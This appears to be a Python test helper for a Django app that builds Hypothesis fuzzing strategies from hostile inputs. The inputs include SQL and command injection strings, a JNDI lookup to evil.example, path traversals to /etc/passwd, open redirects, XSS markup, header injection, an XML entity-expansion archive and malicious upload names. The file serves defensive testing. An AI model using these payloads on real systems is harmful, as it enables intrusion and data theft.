"""What a hostile hand types and attaches: too long, too large, of the wrong kind, in signs that break readers."""

import io
import zipfile

from django.core.files.uploadedfile import SimpleUploadedFile
from hypothesis import strategies as st

MARK = "zz9x"
"""The name of a tag that no page has: where it stands unescaped, somebody could have put a script."""

MARKUP = f"\"'><{MARK} onload=alert(1)>{{{{7*7}}}}${{7*7}}"
FOREIGN = "evil.example"
INJECTIONS = (
    "' OR '1'='1", "1; DROP TABLE portal_user--", "1 UNION SELECT password FROM portal_user", "') OR SLEEP(9)--",
    "%' ESCAPE '!", "\\", "%", "_", "*)(uid=*))(|(uid=*", "$(sleep 9)", "`id`", "${jndi:ldap://evil.example/x}",
)  # fmt: skip
TRAVERSALS = (
    "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "....//....//etc/passwd", "..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2fsecret_key", "/etc/passwd", "file:///etc/passwd", "..%252f..%252fetc/passwd",
    "..%c0%af..%c0%afetc",
)  # fmt: skip
ELSEWHERE = (
    f"https://{FOREIGN}/", f"//{FOREIGN}/", f"/\\{FOREIGN}", f"https:{FOREIGN}", f"\t//{FOREIGN}", "javascript:alert(1)",
    f"http://testserver@{FOREIGN}/", "/desk/\r\nSet-Cookie: a=b",
)  # fmt: skip
NUMBERS = (
    "-1", "0", "1", "2147483648", "9223372036854775808", "9" * 400, "1e309", "NaN", "-Infinity", "0x1f", "1.5", "٣",
    "²", "½", "１２", "+1", "1_000", " 1 ", "-0",
)  # fmt: skip
MOMENTS = (
    "0001-01-01", "9999-12-31", "10000-01-01", "2026-02-30", "2026-13-01", "0000-00-00",
    "9999-12-31T23:59", "0001-01-01 00:00",
    "2026-11-26T25:61", "24:00", "99:99",
)  # fmt: skip
TEXTS = (
    "", " ", "\x00", "a\x00b", "\r\nBcc: x@evil.example", "\ufeff", "\u202e\u2066", "\u2028", "e\u0301" * 40, "𠀀𪚥",
    "👨‍👩‍👧‍👦", "\ud7ff\ue000\uffff",
    "\U0010ffff", "长" * 5_000, "a" * 300_000, "=1+1", "@SUM(A1)", MARKUP, "None", "null",
    "true", "undefined", "\x1b[31m", "\x7f\x08",
)  # fmt: skip
STRUCTURES = (
    "{", "[]", "{}", "[1]", '{"a": {"b": [null]}}', '"x"', "[" * 20_000, '{"__proto__": 1}',
    "1,2,,x", "a=b&c=d", "[[1,2],[3]]",
    "1:2:3", "a|b|c", "-", ",", "NaN,NaN,NaN,NaN",
)  # fmt: skip
UUIDS = ("00000000-0000-0000-0000-000000000000", "not-a-uuid", "0" * 32)

texts = st.sampled_from(
    (*TEXTS, *NUMBERS, *MOMENTS, *INJECTIONS, *TRAVERSALS, *ELSEWHERE, *STRUCTURES, *UUIDS)
) | st.text(st.characters(exclude_categories=["Cs"]), max_size=40)
"""Any text; the well-known troublemakers first."""


def _zipped(**parts: bytes) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name.replace("__", "/"), content)
    return held.getvalue()


_LAUGHS = b'<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;">]><workbook>&c;</workbook>'
CONTENTS = (
    b"", b"\x00" * 64, b"MZ\x90\x00", b"%PDF-1.7\n", b"%PDF-1.7\n%%EOF",
    b"\x89PNG\r\n\x1a\n" + b"\x00" * 40, b"GIF89a\xff\xff\xff\xff",
    b"PK\x03\x04 broken", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 600,
    "工号,姓名\n1,=1+1\n".encode("gb18030"), b'{"a":',
    b"<svg onload=alert(1)>", b"[" * 20_000, b"RIFF\x00\x00\x00\x00WEBP",
    _zipped(**{"[Content_Types].xml": b"<Types/>", "xl__workbook.xml": _LAUGHS}),
    _zipped(**{"[Content_Types].xml": b"<Types/>", "word__document.xml": _LAUGHS}),
)  # fmt: skip
NAMES = (
    "a.png", "a.xlsx", "a.docx", "a.pdf", "a.csv", "a.json",
    "a.svg", "a.exe", "../../../a.png", "a\x00.png", "长" * 200 + ".docx",
    ".htaccess", "con", "a.png.exe", "\u202egnp.exe", "a\"\r\nX: y.png", " .xlsx",
)  # fmt: skip
files = st.builds(
    lambda name, content: SimpleUploadedFile(name, content),
    st.sampled_from(NAMES),
    st.sampled_from(CONTENTS),
)
